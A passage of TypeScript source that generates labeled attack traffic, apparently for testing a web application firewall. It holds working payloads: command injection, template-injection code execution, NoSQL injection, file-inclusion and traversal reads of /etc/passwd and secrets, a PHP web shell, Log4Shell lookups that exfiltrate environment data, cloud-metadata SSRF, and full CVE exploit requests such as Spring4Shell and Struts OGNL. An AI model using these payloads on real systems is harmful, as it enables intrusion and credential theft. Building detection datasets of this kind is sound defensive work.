    ['eval-php', (_, body) => `;print(\`${body}\`);`],
    ['eval-php-concat', (_, body) => `'.print(\`${body}\`).'`],
  ]
  for (let n = 0; n < 320; n++) {
    const sep = pick(seps)
    const [spaceForm, spaceName] = pick(spaceForms)
    const [obName, ob] = pick(obfuscate)
    const [formName, form] = pick(forms)
    const cmd = pick(commands)
    const filled = cmd
      .replaceAll('[OAST]', OAST())
      .replaceAll('[TOKEN]', alnum(6).toUpperCase())
      .replaceAll('[A]', String(int(10, 99)))
      .replaceAll('[B]', String(int(10, 99)))
      .replaceAll('[D]', String(int(3, 10)))
      .replaceAll('[L]', String(int(5, 8)))
    let body = ob(filled)
    // `<` stands for a space only before a file argument (`cat</etc/passwd`).
    if (spaceForm === '<') body = /^cat \//.test(body) ? body.replace(' ', '<') : body
    else body = body.replaceAll(' ', spaceForm)
    const payload = form(sep, body)
    const original = pick(['127.0.0.1', '8.8.8.8', 'shop.example', 'INJECT_HERE', 'file.txt', '1'])
    const at = drawPosition([['query', 45], ['form', 30], ['json', 8], ['cookie', 7], ['header', 10]])
    const headerName = pick(['user-agent', 'referer', 'x-forwarded-for', 'host-check'])
    const pre = /%(?:[0-9a-fA-F]{2})/.test(payload)
    let value = `${original}${payload}`
    if ((at === 'header' || at === 'json') && pre) value = decodeURIComponentSafe(value)
    const name = at === 'header' ? headerName : pick(['addr', 'ip', 'host', 'domain', 'target', 'file', 'name'])
    const technique = /sleep/.test(cmd) ? `time/${formName}` : /\[OAST\]/.test(cmd) ? `oob/${formName}` : `results/${formName}`
    const variant = [spaceName, obName].filter((v) => v !== 'none').join(',') || 'none'
    emit('commix', 'rce', technique, variant, `${formName}:${sep}:${cmd}:${obName}:${spaceName}`, value, at, place(at, { name, original }, value, 'minimal', pre))
  }
  const windows = [
    '&for /f "tokens=*" %i in (\'cmd /c "set /a (37+41)"\') do @set /p = ABCDEF%i ABCDEF <nul',
    '|powershell.exe -InputFormat none -Command "[math]::Round(37+41)"',
    '&whoami',
    '|whoami',
    '&&type C:\\Windows\\win.ini',
    '%26ping -n 5 127.0.0.1',
    '|dir c:\\',
    '& net user',
    '&powershell -enc dwBoAG8AYQBtAGkA',
    '|cmd /c ver',
    '& timeout /t 5 /nobreak',
    "'|certutil -urlcache -split -f http://[OAST]/a.exe a.exe",
  ]
  for (const w of windows) {
    for (let k = 0; k < 3; k++) {
      const payload = w.replaceAll('[OAST]', OAST())
      const at = drawPosition([['query', 50], ['form', 40], ['header', 10]])
      const pre = /%[0-9a-f]{2}/i.test(payload)
      const value = `${pick(['127.0.0.1', 'report.pdf', '1'])}${payload}`
      emit('commix', 'rce', 'windows', pre ? 'url-encoded' : 'none', `win:${w}`, value, at, place(at, { name: at === 'header' ? 'user-agent' : pick(['addr', 'host', 'file']), original: '' }, value, 'minimal', pre))
    }
  }
}

/** tplmap/SSTImap: detection arithmetic with markers, then each engine's code-execution payloads. */
function sstiTools(): void {
  const engines: Array<[string, string[]]> = [
    [
      'jinja2',
      [
        '{{[A]*[B]}}',
        "{{7*'7'}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
        '{{config.items()}}',
        "{{get_flashed_messages.__globals__['current_app'].config}}",
      ],
    ],
    ['twig', ['{{[A]*[B]}}', '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', "{{['id']|filter('system')}}", "{{['cat /etc/passwd']|map('system')|join}}", "{{['id',1]|sort('system')|join}}", '{{_self.env.setCache("ftp://attacker.example:2121")}}{{_self.env.loadTemplate("backdoor")}}']],
    ['freemarker', ['${[A]*[B]}', '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }', '${"freemarker.template.utility.Execute"?new()("id")}', "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}", '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve(\'/etc/passwd\').toURL().openStream().readAllBytes()?join(" ")}']],
    ['velocity', ['#set($x=[A]*[B])${x}', '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")', '#set($str=$class.inspect("java.lang.String").type)#set($chr=$class.inspect("java.lang.Character").type)#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$ex.waitFor()']],
    ['erb', ['<%= [A]*[B] %>', '<%= system("id") %>', '<%= `id` %>', "<%= File.open('/etc/passwd').read %>", "<%= IO.popen('id').readlines() %>", '<%= Dir.entries(\'/\') %>']],
    ['smarty', ['{[A]*[B]}', '{$smarty.version}', '{php}echo `id`;{/php}', "{system('id')}", '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET[\'cmd\']); ?>",self::clearConfig())}', "{if system('id')}{/if}"]],
    ['mako', ['${[A]*[B]}', '<%import os%>${os.popen("id").read()}', '${self.module.cache.util.os.system("id")}', "<%\nimport os\nx=os.popen('id').read()\n%>\n${x}"]],
    ['handlebars', ['{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}']],
    ['nunjucks', ['{{[A]*[B]}}', '{{range.constructor("return global.process.mainModule.require(\'child_process\').execSync(\'id\')")()}}']],
    ['pug', ['#{[A]*[B]}', "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}", "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.exec('id')"]],
    ['ejs', ['<%= [A]*[B] %>', "<%= process.mainModule.require('child_process').execSync('id') %>", "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"]],
    ['tornado', ['{{[A]*[B]}}', '{% import os %}{{os.popen("id").read()}}']],
    ['thymeleaf', ["${T(java.lang.Runtime).getRuntime().exec('id')}", "*{T(java.lang.Runtime).getRuntime().exec('id')}", '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"]],
    ['razor', ['@([A]*[B])', '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")']],
  ]
  for (const [engine, payloads] of engines) {
    payloads.forEach((tpl, i) => {
      for (let k = 0; k < 4; k++) {
        const tool = rand() < 0.5 ? 'tplmap' : 'sstimap'
        const a = String(int(1000, 9999))
        const b = String(int(1000, 9999))
        let payload = tpl.replaceAll('[A]', a).replaceAll('[B]', b)
        // tplmap wraps detection probes in random markers to find the rendered result.
        if (tpl.includes('[A]') && tool === 'tplmap') payload = `${alnum(6)}${payload}${alnum(6)}`
        const at = drawPosition([['query', 50], ['form', 30], ['json', 15], ['cookie', 5]])
        const technique = tpl.includes('[A]') ? 'detect-arith' : i === 1 && !tpl.includes('(') ? 'detect' : 'exec'
        emit(tool, 'ssti', `${engine}/${technique}`, 'none', `${engine}:${i}`, payload, at, place(at, { name: pick(['name', 'template', 'greeting', 'email', 'q', 'subject']), original: '' }, payload, 'form', false))
      }
    })
  }
}

/** NoSQLMap and nuclei NoSQL probes: operator injection in query/form brackets and JSON, and JS `$where` injection. */
function nosql(): void {
  const bracket: Array<[string, string]> = [
    ['operator-ne', 'username[$ne]=admin&password[$ne]=[R]'],
    ['operator-ne', 'username=admin&password[$ne]=x'],
    ['operator-gt', 'username[$gt]=&password[$gt]='],
    ['operator-regex', 'username[$regex]=^adm&password[$ne]=1'],
    ['operator-regex', 'username=admin&password[$regex]=^[a-m]'],
    ['operator-exists', 'username[$exists]=true&password[$exists]=true'],
    ['operator-in', 'username[$in][]=admin&username[$in][]=root&password[$ne]=1'],
    ['operator-nin', 'user[$nin][]=[R]&pass[$ne]=[R]'],
    ['where', 'username=admin&$where=1==1'],
    ['operator-where', 'q[$where]=sleep(5000)'],
  ]
  for (const [technique, tpl] of bracket) {
    for (let k = 0; k < 4; k++) {
      const text = tpl.replaceAll('[R]', alnum(6))
      const encoded = rand() < 0.5 ? text : text.replaceAll('[', '%5B').replaceAll(']', '%5D').replaceAll('$', '%24')
      const variant = encoded === text ? 'none' : 'url-encoded'
      const headers = baseHeaders()
      const req: WafRequest = rand() < 0.5 ? { method: 'GET', uri: `/login?${encoded}`, headers } : { method: 'POST', uri: '/login', headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, body: encoded }
      emit('nosqlmap', 'nosqli', technique, variant, `${technique}:${tpl}`, text, req.body === undefined ? 'query' : 'form', req)
    }
  }
  const json: Array<[string, unknown]> = [
    ['operator-ne', { username: { $ne: null }, password: { $ne: null } }],
    ['operator-ne', { username: 'admin', password: { $ne: '' } }],
    ['operator-gt', { username: { $gt: '' }, password: { $gt: '' } }],
    ['operator-regex', { username: { $regex: '.*' }, password: { $regex: '^a' } }],
    ['operator-where', { $where: 'sleep(5000) || true' }],
    ['operator-where', { username: 'admin', $where: "this.password.match(/^a.*$/)" }],
    ['operator-expr', { $expr: { $function: { body: 'function(){sleep(5000);return true}', args: [], lang: 'js' } } }],
    ['operator-in', { username: { $in: ['admin', 'root', 'administrator'] }, password: { $ne: 1 } }],
    ['operator-nin', { email: { $nin: [] }, password: { $exists: true } }],
  ]
  for (const [technique, doc] of json) {
    for (let k = 0; k < 4; k++) {
      const body = JSON.stringify(doc)
      emit('nosqlmap', 'nosqli', technique, 'json', `${technique}:${body}`, body, 'json', { method: 'POST', uri: pick(['/api/login', '/api/users/find', '/api/v1/auth']), headers: { ...baseHeaders(), 'content-type': 'application/json' }, body })
    }
  }
  const js: Array<[string, string]> = [
    ['js-injection', "'; return true; var dummy='"],
    ['js-injection', "'; sleep(5000); var x='"],
    ['js-injection', "1'; return this.password.match(/^a/); var x='"],
    ['js-injection', "' || 1==1//"],
    ['js-injection', "';return 'a'=='a' && ''=='"],
    ['js-injection', '" || this.a == this.a || "'],
    ['js-injection', "0;return true"],
    ['js-injection', "'; while(true){} var x='"],
  ]
  for (const [technique, payload] of js) {
    for (let k = 0; k < 4; k++) {
      const at = drawPosition([['query', 50], ['form', 35], ['json', 15]])
      emit('nosqlmap', 'nosqli', technique, 'none', `${technique}:${payload}`, payload, at, place(at, { name: pick(['username', 'user', 'id', 'q']), original: '' }, payload, 'form', false))
    }
  }
}

/** LFI/wrapper probes as LFI scanners and nuclei templates send them. */
function lfi(): void {
  const probes: Array<[string, string]> = [
    ['php-filter', 'php://filter/convert.base64-encode/resource=index.php'],
    ['php-filter', 'php://filter/convert.base64-encode/resource=../config.php'],
    ['php-filter', 'php://filter/read=string.rot13/resource=config.php'],
    ['php-filter', 'pHp://FilTer/convert.base64-encode/resource=index.php'],
    ['php-filter', 'php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=php://temp'],
    ['php-filter', 'php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd'],
    ['php-input', 'php://input'],
    ['expect', 'expect://id'],
    ['expect', 'expect://ls'],
    ['data-wrapper', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+'],
    ['data-wrapper', 'data:text/plain,<?php phpinfo(); ?>'],
    ['data-wrapper', 'data://text/plain,<?php system("id"); ?>'],
    ['zip-wrapper', 'zip://uploads/avatar.jpg%23shell.php'],
    ['phar-wrapper', 'phar://./uploads/avatar.phar/test.txt'],
    ['file-wrapper', 'file:///etc/passwd'],
    ['proc', '/proc/self/environ'],
    ['proc', '../../../../../../proc/self/cmdline'],
    ['proc', '/proc/self/fd/0'],
    ['log-poisoning', '../../../../../../var/log/apache2/access.log'],
    ['log-poisoning', '/var/log/nginx/access.log'],
    ['traversal', '....//....//....//....//etc/passwd'],
    ['traversal', '..%252f..%252f..%252f..%252fetc%252fpasswd'],
    ['traversal', '%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd'],
    ['traversal', '/etc/passwd%00'],
    ['traversal', '../../../../../../../../etc/passwd%00.php'],
    ['traversal', '..\\..\\..\\..\\..\\windows\\win.ini'],
    ['traversal', 'C:\\boot.ini'],
    ['traversal', '../../../../../../etc/shadow'],
    ['traversal', '..%c0%af..%c0%af..%c0%afetc/passwd'],
    ['traversal', '%252e%252e%252fetc%252fpasswd'],
    ['traversal', '....\\\\....\\\\....\\\\windows\\\\win.ini'],
    ['traversal', '..;/..;/..;/etc/passwd'],
    ['traversal', '/..%2f..%2f..%2f..%2fetc/passwd'],
    ['traversal', '.%2e/.%2e/.%2e/.%2e/etc/passwd'],
    ['wp-config', '../../../../wp-config.php'],
    ['wp-config', '../../../../../app/etc/local.xml'],
    ['wp-config', '../.env'],
  ]
  for (const [technique, payload] of probes) {
    for (let k = 0; k < 3; k++) {
      const tool = pick(['lfi-scanner', 'nuclei', 'ffuf-lfi'])
      const at = drawPosition([['query', 70], ['form', 15], ['json', 5], ['path', 5], ['cookie', 5]])
      const pre = /%[0-9a-f]{2}/i.test(payload)
      const value = at === 'json' && pre ? decodeURIComponentSafe(payload) : payload
      const req = place(at, { name: pick(['file', 'page', 'include', 'template', 'lang', 'view', 'path', 'doc', 'module']), original: '' }, value, tool === 'nuclei' ? 'raw' : 'minimal', pre)
      if (technique === 'php-input' && req.body === undefined) {
        req.method = 'POST'
        req.body = '<?php system($_GET["cmd"]); ?>'
        req.headers = { ...req.headers, 'content-type': 'application/x-www-form-urlencoded' }
      }
      emit(tool, technique === 'traversal' || technique === 'proc' || technique === 'log-poisoning' || technique === 'wp-config' ? 'path_traversal' : 'lfi', technique, pre ? 'url-encoded' : 'none', `${technique}:${payload}`, value, at, req)
    }
  }
}

/** Log4Shell as scanners spray it: every header and parameter, with the lookup obfuscations. */
function log4shell(): void {
  const forms = [
    ['plain', (h: string) => `\${jndi:ldap://${h}/a}`],
    ['rmi', (h: string) => `\${jndi:rmi://${h}/a}`],
    ['dns', (h: string) => `\${jndi:dns://${h}/a}`],
    ['ldaps', (h: string) => `\${jndi:ldaps://${h}/a}`],
    ['lower', (h: string) => `\${\${lower:j}ndi:\${lower:l}\${lower:d}a\${lower:p}://${h}/a}`],
    ['upper', (h: string) => `\${\${upper:j}ndi:\${upper:l}dap://${h}/a}`],
    ['default-value', (h: string) => `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-l}\${::-d}\${::-a}\${::-p}://${h}/a}`],
    ['env-default', (h: string) => `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${h}/a}`],
    ['k8s', (h: string) => `\${j\${k8s:k5:-ND}i:ldap://${h}/a}`],
    ['date', (h: string) => `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:ldap://${h}/a}`],
    ['sys-default', (h: string) => `\${\${sys:foo:-j}ndi:ldap://${h}/a}`],
    ['nested-lower', (h: string) => `\${jndi:\${lower:l}\${lower:d}\${lower:a}\${lower:p}://${h}/a}`],
    ['exfil', (h: string) => `\${jndi:ldap://\${env:USER}.\${sys:java.version}.${h}/a}`],
    ['hostname', (h: string) => `\${jndi:ldap://\${hostName}.${h}/a}`],
    ['unicode', (h: string) => `\${j\${::-n}di:ldap://${h}/a}`],
    ['text4shell', (h: string) => `\${script:javascript:java.lang.Runtime.getRuntime().exec('nslookup ${h}')}`],
    ['text4shell-dns', (h: string) => `\${dns:address|${h}}`],
  ] as const
  const headerNames = ['user-agent', 'referer', 'x-forwarded-for', 'x-api-version', 'x-request-id', 'authorization', 'x-client-ip', 'contact', 'forwarded', 'accept-language', 'cookie', 'x-wap-profile', 'origin', 'true-client-ip']
  for (const [name, make] of forms) {
    for (let k = 0; k < 8; k++) {
      const tool = pick(['nuclei', 'log4j-scan', 'burp'])
      const payload = make(tool === 'burp' ? COLLAB() : OAST())
      const at = drawPosition([['header', 60], ['query', 20], ['form', 8], ['json', 6], ['path', 3], ['cookie', 3]])
      let req: WafRequest
      if (at === 'header') {
        const h = pick(headerNames)
        const value = h === 'authorization' ? `Bearer ${payload}` : h === 'cookie' ? `JSESSIONID=${payload}` : h === 'forwarded' ? `for=${payload}` : payload
        req = { method: 'GET', uri: pick(['/', '/login', '/api/v1/status', '/?x=1']), headers: { ...baseHeaders(), [h]: value } }
      } else {
        req = place(at, { name: pick(['q', 'username', 'x', 'search', 'id']), original: '' }, payload, tool === 'nuclei' ? 'form' : 'minimal', false)
      }
      emit(tool, name.startsWith('text4shell') ? 'rce' : 'jndi', name.startsWith('text4shell') ? 'text4shell' : 'log4shell', name, `log4shell:${name}`, payload, at, req)
    }
  }
}

/** SSRF to metadata and internal services, as ZAP, Burp, SSRFmap and nuclei write the URL. */
function ssrf(): void {
  const targets: Array<[string, string]> = [
    ['aws-metadata', 'http://169.254.169.254/latest/meta-data/'],
    ['aws-metadata', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    ['aws-metadata', 'http://169.254.169.254/latest/user-data'],
    ['aws-metadata', 'http://[fd00:ec2::254]/latest/meta-data/'],
    ['gcp-metadata', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'],
    ['gcp-metadata', 'http://metadata/computeMetadata/v1/'],
    ['azure-metadata', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01'],
    ['alibaba-metadata', 'http://100.100.100.200/latest/meta-data/'],
    ['oracle-metadata', 'http://192.0.0.192/latest/'],
    ['digitalocean-metadata', 'http://169.254.169.254/metadata/v1.json'],
    ['ip-decimal', 'http://2852039166/latest/meta-data/'],
    ['ip-hex', 'http://0xA9FEA9FE/latest/meta-data/'],
    ['ip-octal', 'http://0251.0376.0251.0376/latest/meta-data/'],
    ['ip-mixed', 'http://169.254.43518/latest/meta-data/'],
    ['ip-ipv6-mapped', 'http://[::ffff:a9fe:a9fe]/latest/meta-data/'],
    ['dns-rebind', 'http://169.254.169.254.nip.io/latest/meta-data/'],
    ['dns-rebind', 'http://a9fea9fe.7f000001.rbndr.us/'],
    ['localhost', 'http://127.0.0.1:6379/'],
    ['localhost', 'http://localhost:8080/actuator/env'],
    ['localhost', 'http://[::1]:22/'],
    ['localhost', 'http://0.0.0.0:9200/_cat/indices'],
    ['localhost', 'http://127.1/server-status'],
    ['scheme', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A'],
    ['scheme', 'dict://127.0.0.1:11211/stat'],
    ['scheme', 'file:///etc/passwd'],
    ['scheme', 'ldap://127.0.0.1:389/%0astats%0aquit'],
    ['scheme', 'tftp://evil.example:69/x'],
    ['userinfo', 'http://shop.example@169.254.169.254/latest/meta-data/'],
    ['userinfo', 'http://169.254.169.254#@shop.example/'],
    ['redirect', `http://${OAST()}/redirect?to=http://169.254.169.254/`],
    ['oob', `http://${OAST()}/`],
    ['private', 'http://10.0.0.1/admin'],
    ['private', 'http://192.168.1.1/'],
  ]
  for (const [technique, url] of targets) {
    for (let k = 0; k < 4; k++) {
      const tool = pick(['zap', 'burp', 'ssrfmap', 'nuclei'])
      const at = drawPosition([['query', 55], ['form', 20], ['json', 20], ['header', 5]])
      const pre = /%[0-9a-f]{2}/i.test(url)
      const req = place(at, { name: at === 'header' ? pick(['x-forwarded-host', 'referer', 'x-original-url']) : pick(['url', 'image_url', 'callback', 'webhook', 'feed', 'dest', 'redirect_uri', 'avatar', 'src', 'uri']), original: '' }, url, tool === 'nuclei' ? 'raw' : 'form', pre)
      emit(tool, 'ssrf', technique, 'none', `ssrf:${url}`, url, at, req)
    }
  }
}

/** nuclei-style CVE probes: whole requests as the templates write them. */
function nucleiCves(): void {
  const h = baseHeaders
  const form = 'application/x-www-form-urlencoded'
  const cves: Array<[string, string, () => WafRequest]> = [
    ['rce', 'spring4shell', () => ({ method: 'POST', uri: '/', headers: { ...h(), 'content-type': form, suffix: '%>//', c1: 'Runtime', c2: '<%', dnt: '1' }, body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=' })],
    ['rce', 'spring4shell-probe', () => ({ method: 'GET', uri: `/?class.module.classLoader.URLs%5B0%5D=0`, headers: h() })],
    ['rce', 'spring4shell-probe', () => ({ method: 'POST', uri: '/login', headers: { ...h(), 'content-type': form }, body: 'class.module.classLoader.DefaultAssertionStatus=nonsense' })],
    ['rce', 'spring-cloud-function', () => ({ method: 'POST', uri: '/functionRouter', headers: { ...h(), 'spring.cloud.function.routing-expression': `T(java.lang.Runtime).getRuntime().exec("nslookup ${OAST()}")`, 'content-type': 'text/plain' }, body: 'test' })],
    ['rce', 'spring-spel', () => ({ method: 'GET', uri: `/search?q=${encodeURIComponent("${T(java.lang.Runtime).getRuntime().exec('id')}")}`, headers: h() })],
    ['rce', 'struts-s2-045', () => ({ method: 'GET', uri: '/index.action', headers: { ...h(), 'content-type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}" } })],
    ['rce', 'struts-s2-057', () => ({ method: 'GET', uri: '/struts2-showcase/%24%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%23ct%3D%23request%5B%27struts.valueStack%27%5D.context%29.%28%23cr%3D%23ct%5B%27com.opensymphony.xwork2.ActionContext.container%27%5D%29.%28%23ou%3D%23cr.getInstance%28%40com.opensymphony.xwork2.ognl.OgnlUtil%40class%29%29.%28%23ou.getExcludedPackageNames%28%29.clear%28%29%29.%28%23ou.getExcludedClasses%28%29.clear%28%29%29.%28%23ct.setMemberAccess%28%23dm%29%29.%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29.%28%40org.apache.commons.io.IOUtils%40toString%28%23a.getInputStream%28%29%29%29%7D/actionChain1.action', headers: h() })],
    ['rce', 'struts-s2-057-probe', () => ({ method: 'GET', uri: `/%24%7B${int(100, 999)}*${int(100, 999)}%7D/index.action`, headers: h() })],
    ['rce', 'struts-s2-032', () => ({ method: 'GET', uri: '/index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2.ServletActionContext%40getResponse(),%23res.setCharacterEncoding(%23parameters.encoding%5B0%5D),%23w%3d%23res.getWriter(),%23s%3dnew+java.util.Scanner(@java.lang.Runtime@getRuntime().exec(%23parameters.cmd%5B0%5D).getInputStream()).useDelimiter(%23parameters.pp%5B0%5D),%23str%3d%23s.hasNext()%3f%23s.next()%3a%23parameters.ppp%5B0%5D,%23w.print(%23str),%23w.close(),1?%23xx:%23request.toString&pp=%5C%5CA&ppp=%20&encoding=UTF-8&cmd=id', headers: h() })],
    ['rce', 'struts-s2-016', () => ({ method: 'GET', uri: "/index.action?redirect:%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%2C%23f%3D%23_memberAccess.getClass%28%29.getDeclaredField%28%27allowStaticMethodAccess%27%29%2C%23f.setAccessible%28true%29%2C%23f.set%28%23_memberAccess%2Ctrue%29%2C%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29.getInputStream%28%29%29%7D", headers: h() })],
    ['rce', 'confluence-cve-2022-26134', () => ({ method: 'GET', uri: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/', headers: h() })],
    ['rce', 'confluence-cve-2022-26134-probe', () => ({ method: 'GET', uri: `/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22nslookup%20${OAST()}%22%29%7D/`, headers: h() })],
    ['rce', 'confluence-cve-2021-26084', () => ({ method: 'POST', uri: '/pages/doenterpagevariables.action', headers: { ...h(), 'content-type': form }, body: `queryString=aaaaaaaa\\u0027%2b{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027JavaScript\\u0027).\\u0065val(\\u0027var+isWin+%3d+java.lang.System.getProperty(\\u0022os.name\\u0022).toLowerCase().contains(\\u0022win\\u0022)%3b+var+cmd+%3d+new+java.lang.String(\\u0022id\\u0022)%3b\\u0027)}%2b\\u0027` })],
    ['rce', 'confluence-cve-2023-22527', () => ({ method: 'POST', uri: '/template/aui/text-inline.vm', headers: { ...h(), 'content-type': form }, body: "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',(new freemarker.template.utility.Execute()).exec({\"id\"}))" })],
    ['rce', 'shellshock', () => ({ method: 'GET', uri: '/cgi-bin/status', headers: { ...h(), 'user-agent': "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'", referer: '() { :;}; /bin/bash -c "id"' } })],
    ['rce', 'thinkphp-invokefunction', () => ({ method: 'GET', uri: '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id', headers: h() })],
    ['rce', 'thinkphp-5023', () => ({ method: 'POST', uri: '/index.php?s=captcha', headers: { ...h(), 'content-type': form }, body: '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id' })],
    ['rce', 'drupalgeddon2', () => ({ method: 'POST', uri: '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax', headers: { ...h(), 'content-type': form }, body: 'form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id' })],
    ['rce', 'vbulletin-cve-2019-16759', () => ({ method: 'POST', uri: '/index.php', headers: { ...h(), 'content-type': form }, body: "routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id'); exit;" })],
    ['rce', 'weblogic-cve-2020-14882', () => ({ method: 'GET', uri: "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec('id');%22)", headers: h() })],
    ['rce', 'php-cgi-cve-2024-4577', () => ({ method: 'POST', uri: '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input', headers: { ...h(), 'content-type': form }, body: '<?php echo md5("CVE-2024-4577"); ?>' })],
    ['rce', 'php-cgi-cve-2012-1823', () => ({ method: 'POST', uri: '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input', headers: { ...h(), 'content-type': form }, body: '<?php echo shell_exec("id"); ?>' })],
    ['rce', 'phpunit-eval-stdin', () => ({ method: 'POST', uri: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', headers: { ...h(), 'content-type': form }, body: '<?php echo md5(phpunit_rce);?>' })],
    ['rce', 'laravel-ignition', () => ({ method: 'POST', uri: '/_ignition/execute-solution', headers: { ...h(), 'content-type': 'application/json' }, body: JSON.stringify({ solution: 'Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution', parameters: { variableName: 'x', viewFile: 'phar://../storage/logs/laravel.log' } }) })],
